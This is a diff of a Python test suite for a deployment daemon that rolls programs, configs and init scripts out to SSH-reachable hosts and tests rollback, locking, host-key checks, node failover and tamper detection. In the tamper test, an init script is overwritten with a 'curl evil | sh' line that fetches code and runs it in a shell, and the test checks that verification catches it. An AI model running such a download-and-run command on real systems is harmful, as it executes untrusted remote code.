@@ -9,13 +9,14 @@ import hashlib
 import http.client
 import json
 import os
+import shutil
 import signal
 import sys
 import time
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from concurrent.futures import Future, ThreadPoolExecutor
 from contextlib import ExitStack, contextmanager, suppress
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import Any
 
@@ -32,11 +33,14 @@ from tests.swarms import running_swarm
 KEY = "a-key-for-tests"
 ADMIN = "/admin/api"
 HEARTBEAT_S = 3.0
+PREFIXES = ("", *(f"t{number}-" for number in range(20)))
+"""Of the names that hosts go by: where tests share them, each knows them by names of its own."""
 DEAD = b"#!/bin/sh\nexit 1\n"
 """A program that gives no sign of life."""
 SERVICE = """#!/bin/sh
 [ "$1" = swarm-drone ] && [ "$2" = restart ] || exit 64
 cd {root} || exit 1
+while [ -f hold ]; do sleep 0.05; done
 [ ! -f pid ] || kill "$(cat pid)" 2>/dev/null
 setsid ./swarm-drone </dev/null >/dev/null 2>&1 &
 echo $! >pid
@@ -80,6 +84,14 @@ class Host:
         with suppress(OSError, ValueError):
             return int((self.inside / "pid").read_text())
         return None
+
+    def empty(self) -> None:
+        """As a host that nothing was ever put on."""
+        pid = self.pid()
+        if pid is not None and alive(pid):
+            os.kill(pid, signal.SIGKILL)
+        for path in self.inside.iterdir():
+            shutil.rmtree(path) if path.is_dir() else path.unlink()
 
     def write(self, name: str, data: bytes | str, mode: int = 0o644) -> None:
         file = self.inside / name
@@ -125,6 +137,10 @@ class Operator:
         place = self.good("GET", "/payloads/status")["drones"][drone][sort]
         return place["version"], place["status"]
 
+    def register_drone(self, says: Mapping[str, Any]) -> None:
+        answer = self.daemon.request("POST", "/api/v1/register", says, surface="buildswarm")
+        assert answer.status == 200, answer.body
+
     def log(self, drone: str, sort: str = "drone_binary") -> list[tuple[str, str]]:
         """Steps and how they ended, the oldest first."""
         rows = self.good("GET", f"/payloads/{sort}/deploy-log?drone={drone}")["history"]
@@ -164,9 +180,25 @@ class Estate:
     operator: Operator
     hosts: Mapping[str, Host]
 
-    def says(self, name: str) -> dict[str, Any]:
-        host = self.hosts[name]
-        return {"id": f"id-{name}", "name": name, "ip": host.sshd.host}
+    def prepare(self) -> None:
+        address, port = self.operator.daemon.address, self.operator.daemon.ports["buildswarm"]
+        for host in self.hosts.values():
+            says = {"id": f"id-{host.name}", "name": host.name, "ip": host.sshd.host}
+            host.write("me.json", json.dumps({"host": address, "port": port, "says": says}))
+            host.write("bin/rc-service", SERVICE.format(root=host.root), 0o755)
+            self.operator.register_drone(says)
+
+    def anew(self, prefix: str) -> Estate:
+        """The same hosts, emptied, as drones that nobody knows yet."""
+        hosts = {
+            f"{prefix}{host.name}": replace(host, name=f"{prefix}{host.name}")
+            for host in self.hosts.values()
+        }  # fmt: skip
+        for host in hosts.values():
+            host.empty()
+        estate = Estate(self.operator, hosts)
+        estate.prepare()
+        return estate
 
     def program(self, version: str) -> bytes:
         return PROGRAM.format(python=sys.executable, version=version).encode()
@@ -210,7 +242,10 @@ def settings_of(folder: Path, hosts: Mapping[str, Host], pin_first: bool) -> dic
         "config": str(root / "config.json"), "portage_config": str(root / "binhost.conf"),
         "heartbeat_s": HEARTBEAT_S,
     }  # fmt: skip
-    elsewhere = {name: f"{host.sshd.host}:{host.sshd.port}" for name, host in hosts.items()}
+    elsewhere = {
+        f"{prefix}{name}": f"{host.sshd.host}:{host.sshd.port}"
+        for prefix in PREFIXES for name, host in hosts.items()
+    }  # fmt: skip
     return {
         "jobs": {"executor": False}, "care": {"enabled": False}, "ssh": ssh,
         "ssh__hosts": elsewhere, "payloads": payloads,
@@ -221,13 +256,7 @@ def settle(operator: Operator, hosts: Mapping[str, Host]) -> Estate:
     """The drones are known, and what runs on their hosts knows the daemon."""
     operator.until(lambda: operator.ask("GET", "/payloads").status == 200)
     estate = Estate(operator, hosts)
-    for name, host in hosts.items():
-        says = estate.says(name)
-        address, port = operator.daemon.address, operator.daemon.ports["buildswarm"]
-        host.write("me.json", json.dumps({"host": address, "port": port, "says": says}))
-        host.write("bin/rc-service", SERVICE.format(root=host.root), 0o755)
-        answer = operator.daemon.request("POST", "/api/v1/register", says, surface="buildswarm")
-        assert answer.status == 200, answer.body
+    estate.prepare()
     return estate
 
 
@@ -246,10 +275,52 @@ def running_estate(
         yield settle(Operator(daemon, KEY), hosts)
 
 
+@pytest.fixture(scope="module")
+def logs(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Where hosts that tests share log to."""
+    return tmp_path_factory.mktemp("logs")
+
+
+@pytest.fixture(scope="module")
+def shared(tmp_path_factory: pytest.TempPathFactory, logs: Path) -> Iterator[Estate]:
+    need("sshd", "netns")
+    # Where the machine keeps a journal, these hosts have none of it.
+    mount = (
+        f"mount --bind {{own}} {{root}}; mount --bind {logs} /var/log;"
+        " [ ! -d /run/log ] || mount -t tmpfs none /run/log"
+    )
+    folder, names = tmp_path_factory.mktemp("hosts"), ("one", "two", "three")
+    with (
+        pytest.MonkeyPatch.context() as patch,
+        running_estate(folder, names, patch, mount=mount) as estate,
+    ):
+        yield estate
+
+
 @pytest.fixture
-def estate(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Estate]:
+def estate(shared: Estate, prefixes: Iterator[str]) -> Estate:
+    """Three hosts with nothing on them, and a daemon that knows versions from before."""
+    return shared.anew(next(prefixes))
+
+
+@pytest.fixture(scope="module")
+def prefixes() -> Iterator[str]:
+    return iter(PREFIXES[1:])
+
+
+@pytest.fixture
+def own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Estate]:
+    """Hosts and a daemon that no other test has to do with."""
     need("sshd", "netns")
     with running_estate(tmp_path, ("one", "two", "three"), monkeypatch) as estate:
+        yield estate
+
+
+@pytest.fixture
+def single(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Estate]:
+    """One host whose keys are known."""
+    need("sshd", "netns")
+    with running_estate(tmp_path, ("one",), monkeypatch) as estate:
         yield estate
 
 
@@ -270,8 +341,8 @@ def pinning(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Estate]
         yield estate
 
 
-def test_a_roll_goes_on_where_it_is_well_and_turns_back_where_it_is_not(estate: Estate) -> None:
-    operator, hosts = estate.operator, estate.hosts
+def test_a_roll_goes_on_where_it_is_well_and_turns_back_where_it_is_not(own: Estate) -> None:
+    operator, hosts, estate = own.operator, own.hosts, own
     first = operator.register("1", estate.program("1"))
     said = operator.roll(first, ["one", "two", "three"])
     assert (said["status"], said["success_count"]) == ("ok", 3), said
@@ -301,71 +372,68 @@ def test_a_roll_goes_on_where_it_is_well_and_turns_back_where_it_is_not(estate: 
 
 
 def test_a_program_that_gives_no_sign_of_life_is_rolled_back(estate: Estate) -> None:
-    operator, host = estate.operator, estate.hosts["one"]
-    operator.roll(operator.register("1", estate.program("1")), ["one", "two"])
+    operator, (one, two, _) = estate.operator, estate.hosts
+    host = estate.hosts[one]
+    operator.roll(operator.register("1", estate.program("1")), [one, two])
     dead = operator.register("dead", DEAD)
-    said = operator.roll(dead, ["one", "two"])
-    assert said["status"] == "partial" and said["skipped"] == ["two"]
-    assert "no sign of life within 3 s" in said["results"]["one"]["message"]
-    assert host.file() == estate.program("1") and operator.place("one") == ("1", "deployed")
+    said = operator.roll(dead, [one, two])
+    assert said["status"] == "partial" and said["skipped"] == [two]
+    assert "no sign of life within 3 s" in said["results"][one]["message"]
+    assert host.file() == estate.program("1") and operator.place(one) == ("1", "deployed")
     assert host.names() >= {"swarm-drone"} and not [n for n in host.names() if n[0] == "."]
-    assert operator.log("one")[3:] == [
+    assert operator.log(one)[3:] == [
         ("deploy", "success"), ("restart", "success"), ("health", "failed"),
         ("rollback", "success"), ("restart", "success"), ("health", "success"),
     ]  # fmt: skip
     # Without that it stays where it is, and the roll goes on.
-    said = operator.roll(dead, ["one", "two"], rollback_on_fail=False)
+    said = operator.roll(dead, [one, two], rollback_on_fail=False)
     assert (said["status"], said["fail_count"], said["skipped"]) == ("partial", 2, [])
-    assert host.file() == DEAD and operator.place("one") == ("dead", "deployed")
-
-
-def test_what_was_never_there_is_taken_away_again(estate: Estate) -> None:
-    said = estate.operator.roll(estate.operator.register("dead", DEAD), ["one"])
-    assert said["status"] == "partial"
-    assert "swarm-drone" not in estate.hosts["one"].names()
-    assert estate.operator.place("one") == (None, "failed")
+    assert host.file() == DEAD and operator.place(one) == ("dead", "deployed")
 
 
 def test_two_rolls_of_a_type_are_not_at_once(estate: Estate) -> None:
-    operator = estate.operator
+    operator, (one, two, _) = estate.operator, estate.hosts
     dead, config = operator.register("dead", DEAD), operator.register("1", b"{}", "config")
     with ThreadPoolExecutor(1) as pool:
-        first: Future[Any] = pool.submit(operator.roll, dead, ["one"])
+        first: Future[Any] = pool.submit(operator.roll, dead, [one])
         operator.until(
-            lambda: "drone_binary" in operator.good("GET", "/payloads/status")["drones"]["one"]
+            lambda: "drone_binary" in operator.good("GET", "/payloads/status")["drones"][one]
         )
         path = "/payloads/drone_binary/dead/rolling-deploy"
-        for answer in (operator.ask("POST", path, {}), operator.deploy(dead, "two")):
+        for answer in (operator.ask("POST", path, {}), operator.deploy(dead, two)):
             assert answer.status == 409 and "under way" in answer.json["error"], answer.body
-        assert operator.deploy(config, "one", "config").status == 200  # of another type
+        assert operator.deploy(config, one, "config").status == 200  # of another type
         assert first.result(30)["status"] == "partial"
-    assert operator.deploy(dead, "two").status == 200
+    assert operator.deploy(dead, two).status == 200
+    # What was never there is taken away again.
+    assert "swarm-drone" not in estate.hosts[one].names()
+    assert operator.place(one) == (None, "failed")
 
 
 def test_whoever_asked_may_go_and_the_roll_goes_on(estate: Estate) -> None:
-    operator = estate.operator
+    operator, (one, two, _) = estate.operator, estate.hosts
     version = operator.register("1", estate.program("1"))
     with pytest.raises(TimeoutError):
         operator.daemon.request(
             "POST", f"{ADMIN}/payloads/drone_binary/{version}/rolling-deploy",
-            {"drones": ["one", "two"]}, surface="buildadmin", headers=operator.headers,
+            {"drones": [one, two]}, surface="buildadmin", headers=operator.headers,
             timeout_s=0.3,
         )  # fmt: skip
-    operator.until(lambda: ("health", "success") in operator.log("two"))
-    assert estate.hosts["two"].file() == estate.program("1")
+    operator.until(lambda: ("health", "success") in operator.log(two))
+    assert estate.hosts[two].file() == estate.program("1")
 
 
 def test_a_file_that_was_tampered_with_is_found_out(estate: Estate) -> None:
-    operator, host = estate.operator, estate.hosts["one"]
+    operator, (one, host) = estate.operator, next(iter(estate.hosts.items()))
     version = operator.register("1", b"#!/bin/sh\n", "init_script")
-    assert operator.deploy(version, "one", "init_script").status == 200
+    assert operator.deploy(version, one, "init_script").status == 200
     assert (host.inside / "init").stat().st_mode & 0o777 == 0o755
     host.write("init", b"#!/bin/sh\ncurl evil | sh\n")
-    said = operator.good("POST", "/payloads/init_script/verify", {"drone": "one"})
-    assert said["matches"] is False and operator.place("one", "init_script") == (None, "changed")
+    said = operator.good("POST", "/payloads/init_script/verify", {"drone": one})
+    assert said["matches"] is False and operator.place(one, "init_script") == (None, "changed")
     assert said["remote_hash"] == hashlib.sha256(host.file("init")).hexdigest()
-    assert operator.deploy(version, "one", "init_script").status == 200
-    assert operator.good("POST", "/payloads/init_script/verify", {"drone": "one"})["matches"]
+    assert operator.deploy(version, one, "init_script").status == 200
+    assert operator.good("POST", "/payloads/init_script/verify", {"drone": one})["matches"]
 
 
 def test_a_full_disk_leaves_what_was_there(small: Estate) -> None:
@@ -381,8 +449,8 @@ def test_a_full_disk_leaves_what_was_there(small: Estate) -> None:
     assert operator.log("one", "config") == [("deploy", "success"), ("deploy", "failed")]
 
 
-def test_a_host_that_shows_another_key_gets_nothing(estate: Estate) -> None:
-    operator, host = estate.operator, estate.hosts["one"]
+def test_a_host_that_shows_another_key_gets_nothing(single: Estate) -> None:
+    operator, host = single.operator, single.hosts["one"]
     version = operator.register("1", b"{}", "config")
     host.sshd.rebuild()
     answer = operator.deploy(version, "one", "config")
@@ -408,22 +476,23 @@ def test_the_first_key_is_kept_by_the_swarm_until_somebody_has_it_forgotten(
 
 
 def test_two_hundred_megabytes_arrive_whole(estate: Estate) -> None:
-    operator, host = estate.operator, estate.hosts["one"]
+    operator, (one, host) = estate.operator, next(iter(estate.hosts.items()))
     data = os.urandom(1_000_000) * 200
     answer = operator.ask("PUT", "/payloads/drone_binary/big?notes=large", data)
     assert answer.status == 201, answer.body
     assert answer.json["version"]["hash"] == f"sha256:{hashlib.sha256(data).hexdigest()}"
-    assert operator.deploy("big", "one").status == 200
+    assert operator.deploy("big", one).status == 200
     assert (host.inside / "swarm-drone").stat().st_size == len(data)
-    assert operator.good("POST", "/payloads/drone_binary/verify", {"drone": "one"})["matches"]
+    assert operator.good("POST", "/payloads/drone_binary/verify", {"drone": one})["matches"]
 
 
 def test_any_node_does_it_and_all_know(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """One node's deployment is in the others' way, and the key that one saw is what all believe.
-    The one that deploys is killed in the middle: nothing half done is left on the host."""
+    The one that deploys is killed in the middle: nothing half done is left on the host, and its
+    roll comes to its end elsewhere."""
     need("sshd", "netns")
     with ExitStack() as stack:
-        hosts = stack.enter_context(running_hosts(tmp_path, ("one",), monkeypatch))
+        hosts = stack.enter_context(running_hosts(tmp_path, ("one", "two", "three"), monkeypatch))
         settings = settings_of(tmp_path, hosts, pin_first=True)
         swarm = stack.enter_context(running_swarm(tmp_path / "swarm", 3, first=91, **settings))
         operators = [
@@ -431,58 +500,71 @@ def test_any_node_does_it_and_all_know(tmp_path: Path, monkeypatch: pytest.Monke
             for node in (swarm.leader(), *swarm.followers())
         ]
         estate = settle(operators[0], hosts)
-        host, (_, other, conductor) = estate.hosts["one"], operators
-        first = conductor.register("1", estate.program("1"))
-        assert conductor.deploy(first, "one").status == 200
-        assert other.place("one") == ("1", "deployed")
-        (row,) = other.good("GET", "/payloads/drone_binary/deploy-log")["history"]
+        host, (_, other, conductor) = hosts["one"], operators
+        first = conductor.register("1", b"{}", "config")
+        assert conductor.deploy(first, "one", "config").status == 200
+        assert other.place("one", "config") == ("1", "deployed")
+        (row,) = other.good("GET", "/payloads/config/deploy-log")["history"]
         (via,) = [node.name for node in swarm.nodes if node.daemon is conductor.daemon]
         assert row["deployed_via"] == via
         # It never saw the host, which is another one by now.
         host.sshd.rebuild()
-        answer = other.deploy(first, "one")
+        answer = other.deploy(first, "one", "config")
         assert answer.status == 409 and "host key" in answer.json["error"], answer.body
         assert other.good("DELETE", "/drones/one/host-key")["forgotten"] is True
-        assert conductor.deploy(first, "one").status == 200
-        big = os.urandom(1_000_000) * 200
-        assert other.ask("PUT", "/payloads/drone_binary/big", big).status == 201
-        with ThreadPoolExecutor(1) as pool:
-            lost = pool.submit(conductor.deploy, "big", "one")
-            operators[0].until(lambda: any(name.endswith(".new") for name in host.names()))
-            answer = other.deploy(first, "one")
+        assert conductor.deploy(first, "one", "config").status == 200
+        big, program = os.urandom(1_000_000) * 100, other.register("1", estate.program("1"))
+        assert other.ask("PUT", "/payloads/config/big", big).status == 201
+        hosts["two"].write("hold", "its service does not start again while this is there")
+        with ThreadPoolExecutor(2) as pool:
+            rolled = pool.submit(conductor.roll, program, ["two", "three"])
+            other.until(lambda: "swarm-drone" in hosts["two"].names())
+            lost = pool.submit(conductor.deploy, "big", "one", "config")
+            other.until(lambda: any(name.endswith(".new") for name in host.names()))
+            answer = other.deploy(first, "one", "config")
             assert answer.status == 409 and "under way" in answer.json["error"], answer.body
             conductor.daemon.kill()
-            with pytest.raises((OSError, http.client.HTTPException)):
-                lost.result(30)
-        assert host.file() == estate.program("1")
-        assert other.place("one") == ("1", "deploying")
-        said = other.good("POST", "/payloads/drone_binary/verify", {"drone": "one"})
-        assert said["matches"] is True and other.place("one") == ("1", "deployed")
+            (hosts["two"].inside / "hold").unlink()
+            for gone in (lost, rolled):
+                with pytest.raises((OSError, http.client.HTTPException)):
+                    gone.result(30)
+        assert host.file("config.json") == b"{}"
+        assert other.place("one", "config") == ("1", "deploying")
+        said = other.good("POST", "/payloads/config/verify", {"drone": "one"})
+        assert said["matches"] is True and other.place("one", "config") == ("1", "deployed")
         # What it had sent is in the way until the next one comes.
         assert [name for name in host.names() if name.endswith(".new")]
-        other.until(lambda: other.deploy(first, "one").status == 200, HOLD_S + 20)
+        took_place = (hosts["two"].inside / "swarm-drone").stat().st_ino
+        other.until(lambda: other.deploy(first, "one", "config").status == 200, HOLD_S + 20)
         assert not [name for name in host.names() if name.endswith(".new")]
+        # Its roll has another node by now, and each host the program once.
+        other.until(lambda: ("health", "success") in other.log("three"), HOLD_S + 20)
+        assert {hosts[name].file() for name in ("two", "three")} == {estate.program("1")}
+        assert (hosts["two"].inside / "swarm-drone").stat().st_ino == took_place
+        assert not {"swarm-drone.previous"} & (hosts["two"].names() | hosts["three"].names())
+        assert [other.place(name) for name in ("two", "three")] == [("1", "deployed")] * 2
+        history = other.good("GET", "/payloads/drone_binary/deploy-log?drone=three")["history"]
+        assert via not in {row["deployed_via"] for row in history}
+        said = other.daemon.request("GET", "/api/v1/events?type=control", surface="buildswarm")
+        told = [event["message"] for event in reversed(said.json["events"])]
+        assert [words for words in told if "drone_binary" in words and "roll" in words] == [
+            "drone_binary: roll begun", "drone_binary 1: roll taken over",
+            "drone_binary: roll ended",
+        ]  # fmt: skip
 
 
-def test_a_hosts_log_is_its_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    need("sshd", "netns")
-    (logs := tmp_path / "logs").mkdir()
+def test_a_hosts_log_is_its_own(estate: Estate, logs: Path) -> None:
+    operator, (one, *_) = estate.operator, estate.hosts
     (logs / "messages").write_text("".join(
         f"Feb 12 15:30:01 one swarm-drone[{n}]: \x1b[2J{'é' * (n % 200)}\n" for n in range(3000)
     ))  # fmt: skip
-    # Where the machine keeps a journal, this host has none of it.
-    mount = (
-        f"mount --bind {{own}} {{root}}; mount --bind {logs} /var/log;"
-        " [ ! -d /run/log ] || mount -t tmpfs none /run/log"
-    )
-    with running_estate(tmp_path, ("one",), monkeypatch, mount=mount) as estate:
-        operator = estate.operator
-        lines = operator.good("GET", "/drones/one/syslog?lines=3")["lines"]
-        assert [line[:44] for line in lines] == [
-            f"Feb 12 15:30:01 one swarm-drone[{n}]: \ufffd[2Jéé"[:44] for n in (2997, 2998, 2999)
-        ]
-        assert len(operator.good("GET", "/drones/one/syslog")["lines"]) == 100
-        assert len(operator.good("GET", "/drones/one/syslog?lines=9999999")["lines"]) == 2000
-        (logs / "messages").unlink()
-        answer = operator.ask("GET", "/drones/one/syslog")
-        assert answer.status == 503 and "no log that this account may read" in answer.json["error"]
+    path = f"/drones/{one}/syslog"
+    lines = operator.good("GET", f"{path}?lines=3")["lines"]
+    assert [line[:44] for line in lines] == [
+        f"Feb 12 15:30:01 one swarm-drone[{n}]: \ufffd[2Jéé"[:44] for n in (2997, 2998, 2999)
+    ]
+    assert len(operator.good("GET", path)["lines"]) == 100
+    assert len(operator.good("GET", f"{path}?lines=9999999")["lines"]) == 2000
+    (logs / "messages").unlink()
+    answer = operator.ask("GET", path)
+    assert answer.status == 503 and "no log that this account may read" in answer.json["error"]
